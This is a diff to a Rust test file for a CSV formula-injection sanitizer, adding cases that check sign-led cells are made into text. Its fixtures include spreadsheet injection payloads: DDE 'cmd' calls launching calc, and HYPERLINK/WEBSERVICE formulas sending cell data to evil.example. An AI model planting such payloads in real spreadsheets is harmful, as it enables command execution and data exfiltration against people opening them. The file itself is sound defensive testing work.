@@ -1,4 +1,6 @@
-//! Formulas and what only looks like them; then texts of the bytes that matter, in any order, against a second reading.
+//! Formulas and what only looks like them.
+
+mod any_text;
 
 use super::*;
 
@@ -40,7 +42,8 @@ const CASES: &[(&str, &str)] = &[
     ("a,b\nx,\"y;=1;z\"\n", "a,b\nx,\"y;'=1;z\"\n"),
     ("a,b\nx,\"y\n=1;z\"\n", "a,b\nx,\"y\n'=1;z\"\n"),
     ("a|b|c|d,e\nx,=1\n", "a|b|c|d,e\nx,'=1\n"),
-    ("a;b\n\"-1,=1\";2\n", "a;b\n\"-1,'=1\";2\n"),
+    ("a;b\n\"-1,=1\";2\n", "a;b\n\"'-1,'=1\";2\n"),
+    ("a,b\nx;  =1,y;\u{b}=1\n", "a,b\nx;  '=1,y;\u{b}'=1\n"),
     // Wide signs.
     ("a,b\n＝1,＋x\n", "a,b\n'＝1,'＋x\n"),
     ("a,b\n－1,\"＠x\"\n", "a,b\n'－1,\"'＠x\"\n"),
@@ -58,9 +61,57 @@ const CASES: &[(&str, &str)] = &[
     ("a\n\"-1\"\"+A1\"\n", "a\n\"'-1\"\"+A1\"\n"),
 ];
 
+/// What begins like a number, and goes on behind a byte that ends no cell in one of the readings.
+const LONGER_THAN_THEY_LOOK: &[(&str, &str)] = &[
+    // A sign alone is no number if something follows.
+    (
+        "a,b\n\"+\ncmd|' /C calc'!A0\",x\n",
+        "a,b\n\"'+\ncmd|' /C calc'!A0\",x\n",
+    ),
+    (
+        "a,b\n\"+\r\ncmd|' /C calc'!A0\",x\n",
+        "a,b\n\"'+\r\ncmd|' /C calc'!A0\",x\n",
+    ),
+    ("a,b\n+\tcmd|' /C calc'!A0,x\n", "a,b\n'+\tcmd|' /C calc'!A0,x\n"),
+    ("a\tb\n-\tWEBSERVICE(A2)\n", "a\tb\n'-\tWEBSERVICE(A2)\n"),
+    (
+        "a,b\n\"-\nHYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n",
+        "a,b\n\"'-\nHYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n",
+    ),
+    // What is put before another cell must not become a part of a formula.
+    ("a\tb\nx|+\t-\";[x]y'!A1\n", "a\tb\nx|'+\t'-\";[x]y'!A1\n"),
+    ("a,b\n\"+\n1\"", "a,b\n\"'+\n1\""),
+    // Nor is a number.
+    (
+        "a,b\n\"-1\n*WEBSERVICE(\"\"http://evil.example/?\"\"&A1)\"\n",
+        "a,b\n\"'-1\n*WEBSERVICE(\"\"http://evil.example/?\"\"&A1)\"\n",
+    ),
+    ("a,b\n\"-1,INDIRECT(A1)\",x\n", "a,b\n\"'-1,INDIRECT(A1)\",x\n"),
+    ("a;b\n-1,INDIRECT(A1);x\n", "a;b\n'-1,INDIRECT(A1);x\n"),
+    ("a,b\n-1|' /C calc'!A0\n", "a,b\n'-1|' /C calc'!A0\n"),
+    ("a|b\n-1|' /C calc'!A0\n", "a|b\n'-1|' /C calc'!A0\n"),
+    // Quotes that some find behind spaces, and bytes behind those that end a cell.
+    ("a,b\n \"-1\n*A1\"\n", "a,b\n \"'-1\n*A1\"\n"),
+    ("a,b\n\"-\"1,\"&A1\"\n", "a,b\n\"'-\"1,\"&A1\"\n"),
+    // A line that is one cell where the comma is a decimal one, or the tab a blank.
+    ("a,b\n-1,5*A1\n", "a,b\n'-1,5*A1\n"),
+    ("a,b\n\"-1\",5&A1\n", "a,b\n\"'-1\",5&A1\n"),
+    ("a,b\n-1,5-A1\n", "a,b\n'-1,5-A1\n"),
+    ("a,b\n-1,5＊A1\n", "a,b\n'-1,5＊A1\n"),
+    ("a\tb\tc\n-1\t-5\t*A1\n", "a\tb\tc\n'-1\t-5\t*A1\n"),
+    ("a,b\nx;\"-1\n*A1\"\n", "a,b\nx;\"'-1\n*A1\"\n"),
+];
+
 #[test]
 fn formulas_become_text() {
     for (text, wanted) in CASES {
+        assert_eq!(safe(text), *wanted);
+    }
+}
+
+#[test]
+fn a_number_ends_where_its_cell_does() {
+    for (text, wanted) in LONGER_THAN_THEY_LOOK {
         assert_eq!(safe(text), *wanted);
     }
 }
@@ -72,6 +123,26 @@ fn numbers_and_words_stay_as_they_are() {
     assert_eq!(safe(plain), plain);
     let continental = "id;n\r\n1;-1.234,50\r\n2;\"-1,5\"\r\n";
     assert_eq!(safe(continental), continental);
+    // Ahead of other cells: for a spreadsheet with another delimiter they are one cell.
+    for line in [
+        "-0.1276,51.5072,London",
+        "-5,2024-01-01T12:30,x",
+        "\"-1,234.50\",+3,-12%,x",
+        "-1,-2,-3",
+        "+3,\"a\"",
+        "-1e5",
+        "-,n/a",
+        "--,x",
+        "-1.5;x;\"y*z\"",
+        "-1\t-2\tx",
+        "-1\t2\t*",
+    ] {
+        for text in [format!("{line}\n"), format!("{line}\r\n{line}\r\n"), line.to_owned()] {
+            assert_eq!(safe(&text), text);
+        }
+    }
+    let negative = format!("{}-1\n", "-0.512345678901,".repeat(100));
+    assert_eq!(safe(&negative), negative);
     assert_eq!(safe(""), "");
     // Latin-1.
     assert_eq!(whole(b"na\xefve,\xef\n\xefx,-1\n"), b"na\xefve,\xef\n\xefx,-1\n");
@@ -80,15 +151,16 @@ fn numbers_and_words_stay_as_they_are() {
 #[test]
 fn a_cell_without_an_end_is_not_held() {
     let mut sheet = Spreadsheet::default();
-    sheet.pass(b"a\n-");
+    let mut written = sheet.pass(b"a\n-");
     for _ in 0..100 {
-        sheet.pass(&[b'1'; 1024]);
-        assert!(sheet.held.len() <= LONGEST_NUMBER);
+        written.extend(sheet.pass(&[b'1'; 1000]));
+        assert!(sheet.held.len() < AHEAD);
     }
+    assert!(written.starts_with(b"a\n'-1"));
     let mut sheet = Spreadsheet::default();
     let written: usize = (0..100).map(|_| sheet.pass(&[b'x'; 1024]).len()).sum();
     assert_eq!(
-        (written, sheet.head.len()),
+        (written, sheet.held.len()),
         (100 << 10, 0),
         "a first line without an end"
     );
@@ -100,14 +172,14 @@ fn the_delimiter_does_not_depend_on_the_pieces() {
     let text = [
         "a,".repeat(LONGEST_HEAD / 2),
         ";".repeat(LONGEST_HEAD),
-        "\n x;  =1, =2\n".to_owned(),
+        "\n x;\u{b}x,\u{b}x\n".to_owned(),
     ]
     .concat();
     let mut sheet = Spreadsheet::default();
     let mut in_pieces: Vec<u8> = text.as_bytes().chunks(7).flat_map(|piece| sheet.pass(piece)).collect();
     in_pieces.extend(sheet.end());
     assert!(in_pieces == whole(text.as_bytes()));
-    assert!(in_pieces.ends_with(b"\n x;  =1, '=2\n"));
+    assert!(in_pieces.ends_with(b"\n x;\x0bx,'\x0bx\n"));
 }
 
 #[test]
@@ -128,43 +200,4 @@ fn tables_are_text_with_a_name_that_says_so() {
     ] {
         assert!(!is_text(other), "{other:?}");
     }
-}
-
-/// Whether something behind a byte at which anybody may cut, quotes left out, would be computed.
-fn has_formula(text: &str) -> bool {
-    text.split([',', ';', '\t', '|', '\r', '\n']).any(|cell| {
-        let cell = cell.trim_start_matches(['"', '\u{feff}']);
-        let number = cell.trim_end_matches([' ', '"']);
-        let is_number = number.parse::<f64>().is_ok() || number.trim_matches(['+', '-']).is_empty();
-        cell.starts_with(['=', '@', '＝', '＠', '＋', '－']) || (cell.starts_with(['+', '-']) && !is_number)
-    })
-}
-
-#[test]
-fn whatever_the_text_no_cut_of_it_begins_a_formula() {
-    let pieces = [
-        "=", "+", "-", "@", "＝", "－", "\u{feff}", "\"", ",", ";", "\t", "|", "\r", "\n", "1", "e", "x", "'",
-    ];
-    let mut random = 1_u64;
-    let mut below = |bound: usize| {
-        random = random
-            .wrapping_mul(6_364_136_223_846_793_005)
-            .wrapping_add(1_442_695_040_888_963_407);
-        usize::try_from(random >> 33).unwrap() % bound
-    };
-    let mut found = 0;
-    for _ in 0..20_000 {
-        let text: String = (0..below(14)).map(|_| pieces[below(pieces.len())]).collect();
-        let once = safe(&text);
-        found += usize::from(has_formula(&text));
-        assert!(!has_formula(&once), "{text:?} became {once:?}");
-        assert_eq!(safe(&once), once, "a second time finds nothing: {text:?}");
-        let mut sheet = Spreadsheet::default();
-        let mut bytewise: Vec<u8> = text.bytes().flat_map(|byte| sheet.pass(&[byte])).collect();
-        bytewise.extend(sheet.end());
-        assert_eq!(bytewise, once.as_bytes(), "cut anywhere: {text:?}");
-        let (mut left, mut rest) = (once.chars().filter(|c| *c != '\''), text.chars().filter(|c| *c != '\''));
-        assert!(left.by_ref().eq(rest.by_ref()), "nothing else is changed: {text:?}");
-    }
-    assert!(found > 10_000, "{found} texts had something to find");
 }
